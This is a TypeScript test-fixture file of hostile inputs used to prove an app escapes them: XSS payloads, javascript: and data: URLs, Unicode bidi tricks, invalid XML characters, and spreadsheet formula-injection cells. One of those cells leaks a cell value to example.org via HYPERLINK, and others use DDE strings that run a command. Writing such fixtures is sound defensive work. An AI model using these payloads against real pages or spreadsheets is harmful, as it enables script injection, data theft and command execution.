/**
 * Text that would run script or mislead a reader if a view ever put it into
 * the page as markup instead of text. Each payload that could execute sets
 * `window.__pwned`, so a browser test can prove none ran.
 */
export const SCRIPT_PAYLOADS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 1">',
  '<svg onload="window.__pwned = 1"><circle r="1"/></svg>',
  '<svg><script>window.__pwned = 1</script></svg>',
  '"><iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
  '\'"><a href="javascript:window.__pwned = 1">click</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 1">',
  '{{constructor.constructor("window.__pwned = 1")()}}',
] as const;

/** Unicode bidi overrides and invisible characters: shown as they are, never trusted for layout or links. */
export const UNICODE_PAYLOADS = [
  'Total \u202Egnp.exe\u202C figures',
  '\u2066isolate\u2069 \u200Fright-to-left mark\u200E',
  'zero\u200Bwidth\u200Djoiner\uFEFF',
  'مغرب ⵍⵎⵖⵔⵉⴱ Maroc',
] as const;

/** Source addresses that must never become links; the schema refuses them. */
export const UNSAFE_URLS = [
  'javascript:window.__pwned=1',
  'JaVaScRiPt:window.__pwned=1',
  ' javascript:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  'vbscript:msgbox(1)',
  'java\tscript:window.__pwned=1',
] as const;

export const HOSTILE_STRINGS: readonly string[] = [...SCRIPT_PAYLOADS, ...UNICODE_PAYLOADS];

/**
 * Characters JSON allows in a string but XML (SVG, PowerPoint) does not, and
 * that spreadsheets mishandle: C0 controls, noncharacters, lone surrogates.
 */
export const HOSTILE_CHARACTERS = [
  '\u0000',
  '\u0001',
  '\u0008',
  '\u000B',
  '\u000C',
  '\u001B',
  '\u001F',
  '\uFFFE',
  '\uFFFF',
  '\uD800',
  '\uDBFF',
  '\uDC00',
  '\uDFFF',
] as const;

/** Cells a spreadsheet would evaluate as formulas if written as they are. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("https://example.org/?leak="&A1,"Sources")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\uFF1D1+1',
] as const;
